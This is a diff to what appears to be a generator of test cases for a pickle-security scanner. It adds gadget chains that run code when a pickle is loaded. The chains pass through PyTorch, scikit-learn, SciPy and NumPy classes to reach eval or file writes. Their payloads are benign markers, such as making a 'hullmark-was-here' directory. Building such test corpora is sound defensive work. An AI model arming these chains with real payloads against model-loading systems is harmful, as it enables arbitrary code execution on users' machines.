@@ -85,6 +85,66 @@ def relays():
     yield "pickle-relay-name-as-value.pkl", PROTO2 + EMPTY_LIST + name("builtins", "set") + APPEND + STOP
 
 
+def instance(module, attribute, **attributes):
+    return name(module, attribute) + EMPTY_TUPLE + NEWOBJ + dictionary(**attributes) + BUILD
+
+
+def partial(function, *arguments, **keywords):
+    return call(name("functools", "partial"), function) + items(function, items(*arguments), dictionary(**keywords), NONE) + BUILD
+
+
+def items_of_list(*values):
+    return EMPTY_LIST + MARK + b"".join(values) + APPENDS
+
+
+def loader(item, function):
+    """A loader that gives the item to the function as soon as it is iterated."""
+    zero = integer(0)
+    return instance("torch.utils.data.dataloader", "DataLoader", dataset=items_of_list(item), collate_fn=function, num_workers=zero, sampler=items_of_list(zero), batch_sampler=items_of_list(items_of_list(zero)), batch_size=integer(1), _dataset_kind=zero, pin_memory=FALSE, timeout=zero, generator=NONE, persistent_workers=FALSE, prefetch_factor=NONE, drop_last=FALSE, pin_memory_device=text(""), in_order=TRUE, _DataLoader__initialized=TRUE, _DataLoader__multiprocessing_context=NONE, _IterableDataset_len_called=NONE, _iterator=NONE)
+
+
+def optimiser(get, parameter):
+    """Adam, which asks its state for each parameter as it is loaded: get(parameter, [])."""
+    state = instance("argparse", "Namespace", get=get)
+    return instance("torch.optim.adam", "Adam", defaults=EMPTY_DICT, state=state, param_groups=items_of_list(dictionary(params=items_of_list(parameter))))
+
+
+def methods_called_on_loading():
+    """Classes that are harmless by themselves, one of which calls a method of an attribute as it is loaded, and others that pass it on."""
+    hooks = {word: EMPTY_DICT for word in ("_backward_hooks", "_backward_pre_hooks", "_forward_hooks", "_forward_pre_hooks", "_parameters", "_buffers")}
+    read = lambda kind, path: call(name("operator", kind), text(path))
+    steps = dictionary(**{"0": read("attrgetter", "__init__.__globals__"), "1": read("itemgetter", "__builtins__"), "2": read("itemgetter", "eval")})
+    walk = instance("torch.nn.modules.container", "Sequential", _modules=steps, **hooks)
+    largest = name("builtins", "max")
+    wrapper = lambda function, **made: instance("torch.ao.quantization.observer", "_PartialWrapper", p=function, callable_args=dictionary(**made))
+    evaluate = wrapper(largest, key=wrapper(walk, input=partial(largest, items_of_list(instance("argparse", "Namespace")))))
+    yield "pickle-method-optimiser-evaluates.pkl", PROTO2 + optimiser(evaluate, text("__import__('os').mkdir('hullmark-was-here')")) + STOP
+
+    numbers = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), items(integer(0)), blob(b"b"))
+    numbers += items(integer(1), items(integer(1)), call(name("numpy", "dtype"), text("f8"), FALSE, TRUE) + items(integer(3), text("<"), NONE, NONE, NONE, integer(-1), integer(-1), integer(0)) + BUILD, FALSE, blob(b"hullmark")) + BUILD
+    stack = instance("sklearn.ensemble._stacking", "StackingRegressor", estimators_=items_of_list(numbers), stack_method_=items_of_list(text("tofile")), final_estimator_=instance("sklearn.linear_model._base", "LinearRegression", a=NONE), final_estimator=NONE, passthrough=FALSE, estimators=NONE)
+    scorer = instance("sklearn.metrics._scorer", "_Scorer", _score_func=name("sklearn.metrics._regression", "r2_score"), _sign=integer(1), _kwargs=EMPTY_DICT, _response_method=text("predict"))
+    score = instance("scipy.optimize._lsq.least_squares", "_WrapArgsKwargs", f=scorer, args=items(text("hullmark-was-here"), items_of_list(integer(1))), kwargs=EMPTY_DICT)
+    write = partial(largest, key=score)
+    yield "pickle-method-optimiser-writes.pkl", PROTO2 + optimiser(write, stack) + STOP
+    yield "pickle-method-handle.pkl", PROTO2 + name("torch.utils.hooks", "RemovableHandle") + EMPTY_TUPLE + NEWOBJ + items(NONE, integer(1), loader(stack, write)) + BUILD + STOP
+    yield "pickle-method-ordered-dict.pkl", PROTO2 + call(name("collections", "OrderedDict"), items_of_list(loader(stack, write))) + STOP
+    yield "pickle-method-recurrent.pkl", PROTO2 + instance("torch.nn.modules.rnn", "LSTM", _modules=EMPTY_DICT, _all_weights=items_of_list(items_of_list(text("w"))), _flat_weights=loader(stack, write), **hooks) + STOP
+    first = partial(largest, stack, key=score)
+    at_once = partial(largest, items_of_list(stack), key=score)
+    yield "pickle-method-patch-step.pkl", PROTO2 + instance("torch.optim.sgd", "SGD", _patch_step_function=at_once) + STOP
+    yield "pickle-method-attach.pkl", PROTO2 + instance("scipy.stats._continuous_distns", "norm_gen", _attach_methods=at_once) + STOP
+    yield "pickle-method-build.pkl", PROTO2 + instance("sklearn.isotonic", "IsotonicRegression", X_thresholds_=NONE, y_thresholds_=NONE, _build_f=first) + STOP
+    yield "pickle-method-as-type.pkl", PROTO2 + instance("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor", nodes=instance("argparse", "Namespace", dtype=NONE, astype=partial(largest, stack, key=score))) + STOP
+    yield "pickle-method-close.pkl", PROTO2 + instance("scipy.spatial._qhull", "Delaunay", close=at_once) + POP + NONE + STOP
+    yield "pickle-method-operator.pkl", PROTO2 + instance("sklearn.linear_model._base", "LinearRegression", _sklearn_version=instance("scipy.sparse._csr", "csr_matrix", _comparison=first)) + STOP
+    yield "pickle-method-register-buffer.pkl", PROTO2 + instance("torch.nn.modules.activation", "Softmax", _modules=EMPTY_DICT, register_buffer=first, **{**hooks, "_buffers": dictionary(_is_full_backward_hook=NONE)}) + STOP
+    parameters = instance("torch.nn.modules.container", "Sequential", _modules=instance("argparse", "Namespace", values=at_once))
+    yield "pickle-method-contains.pkl", PROTO2 + instance("torch.nn.modules.linear", "Linear", _modules=EMPTY_DICT, **{**hooks, "_parameters": parameters}) + STOP
+    slots = name("scipy.interpolate._interpolate", "interp1d") + EMPTY_TUPLE + NEWOBJ + items(NONE, dictionary(__dict__=dictionary(append=largest))) + BUILD
+    yield "pickle-method-slots.pkl", PROTO2 + slots + STOP
+
+
 def broken_behind_the_payload():
     start = PROTO2 + payload()
     yield "pickle-broken-no-stop.pkl", start
@@ -243,5 +303,5 @@ def expansion():
 
 
 def cases():
-    for family in (calls, names_built_on_the_way, relays, broken_behind_the_payload, differentials, differentials_that_run, names_of_python_2, several_streams, disguises, expansion):
+    for family in (calls, names_built_on_the_way, relays, methods_called_on_loading, broken_behind_the_payload, differentials, differentials_that_run, names_of_python_2, several_streams, disguises, expansion):
         yield from family()
